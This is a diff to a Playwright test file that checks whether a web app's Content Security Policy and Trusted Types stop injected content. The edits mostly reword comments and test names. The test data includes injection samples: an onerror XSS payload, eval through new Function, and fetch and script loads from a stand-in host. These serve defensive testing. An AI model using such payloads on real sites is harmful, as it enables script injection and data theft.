@@ -5,9 +5,9 @@ import { everything, idCardOnly } from './fixtures/procedures.ts';
 import { expect, test } from './fixtures/test.ts';
 import { withoutHeaders } from './fixtures/without-headers.ts';
 
-// That nothing of the app breaks the policy is checked in every spec (fixtures/page-watch.ts).
+// Every spec checks that the app itself does not violate the policy (fixtures/page-watch.ts).
 
-/** What injected markup or script could try, and the directive that stops it. */
+/** Attacks of injected markup or script, and the directive that stops each. */
 const tricks: readonly (readonly [what: string, directive: string, trick: () => unknown])[] = [
   [
     'an inline style',
@@ -19,7 +19,7 @@ const tricks: readonly (readonly [what: string, directive: string, trick: () => 
     },
   ],
   [
-    'an image of a stranger',
+    'an image from a foreign origin',
     'img-src',
     () => {
       document.createElement('img').src = 'https://stranger.example/image.png';
@@ -35,12 +35,12 @@ const tricks: readonly (readonly [what: string, directive: string, trick: () => 
     },
   ],
   [
-    'a message to a stranger',
+    'a request to a foreign origin',
     'connect-src',
     () => fetch('https://stranger.example/', { method: 'POST', body: 'x' }).catch(() => undefined),
   ],
   [
-    'a form that leads elsewhere',
+    'a form for a foreign origin',
     'form-action',
     () => {
       const form = document.createElement('form');
@@ -50,7 +50,7 @@ const tricks: readonly (readonly [what: string, directive: string, trick: () => 
     },
   ],
   [
-    'another address for the page’s own paths',
+    'another base address for the page’s paths',
     'base-uri',
     () => {
       const base = document.createElement('base');
@@ -58,37 +58,37 @@ const tricks: readonly (readonly [what: string, directive: string, trick: () => 
       document.head.append(base);
     },
   ],
-  ['a worker of text', 'require-trusted-types-for', () => void new Worker('data:text/javascript,0')],
+  ['a worker from a string', 'require-trusted-types-for', () => void new Worker('data:text/javascript,0')],
   [
-    'text that becomes code',
+    'a string that is evaluated',
     'require-trusted-types-for',
-    // What a test evaluates may evaluate; what it leaves behind may not.
+    // Playwright's own evaluation is exempt from the policy, a later callback is not.
     () =>
       setTimeout(() => {
         try {
-          // oxlint-disable-next-line typescript/no-implied-eval -- it is what must not work.
+          // oxlint-disable-next-line typescript/no-implied-eval -- the policy must block it.
           Reflect.set(window, 'hacked', new Function('return 1')());
         } catch {
-          // as it should be
+          // as expected
         }
       }),
   ],
   [
-    'text that becomes markup',
+    'a string that is parsed as markup',
     'require-trusted-types-for',
     () => {
       document.body.innerHTML = '<img src=x onerror="window.hacked = 1">';
     },
   ],
   [
-    'text that becomes the address of a script',
+    'a string as the address of a script',
     'require-trusted-types-for',
     () => {
       document.createElement('script').src = 'https://stranger.example/script.js';
     },
   ],
   [
-    'a Trusted Types policy of a stranger',
+    'an unknown Trusted Types policy',
     'trusted-types',
     () => (window as unknown as TrustedTypesWindow).trustedTypes.createPolicy('stranger', {}),
   ],
@@ -111,7 +111,7 @@ test('the page’s policy stops injected markup and scripts', async ({ page, pro
       await customer.open(procedure);
       await customer.sees('start');
       const before = watch.violations().length;
-      await page.evaluate(trick).catch(() => undefined); // some tricks throw where they are stopped
+      await page.evaluate(trick).catch(() => undefined); // some attacks throw when they are stopped
       await expect
         .poll(() => watch.violations().slice(before))
         .toContainEqual(expect.stringContaining(`${directive} blocked`));
@@ -121,7 +121,7 @@ test('the page’s policy stops injected markup and scripts', async ({ page, pro
   }
 });
 
-test('the camera is the only thing that the page may use', async ({ page, procedures, customer }) => {
+test('the camera is the only feature that the page may use', async ({ page, procedures, customer }) => {
   await customer.open(await procedures.make(everything));
   const allowed = await page.evaluate(() =>
     (
@@ -150,9 +150,9 @@ test('no other page may show this one in a frame', async ({ page, procedures, co
 
 for (const [host, prepare] of [
   ['a host with the security headers', () => Promise.resolve()],
-  ['a host without any', withoutHeaders],
+  ['a host without security headers', withoutHeaders],
 ] as const) {
-  test(`on ${host} a redirect leads no picked file to another origin`, async ({
+  test(`on ${host} a redirect sends no picked file to another origin`, async ({
     page,
     procedures,
     customer,
@@ -183,7 +183,7 @@ for (const [host, prepare] of [
   });
 }
 
-test('without the security headers, too, the page reaches no stranger', async ({
+test('even without the security headers, the page can not reach a foreign origin', async ({
   page,
   procedures,
   customer,
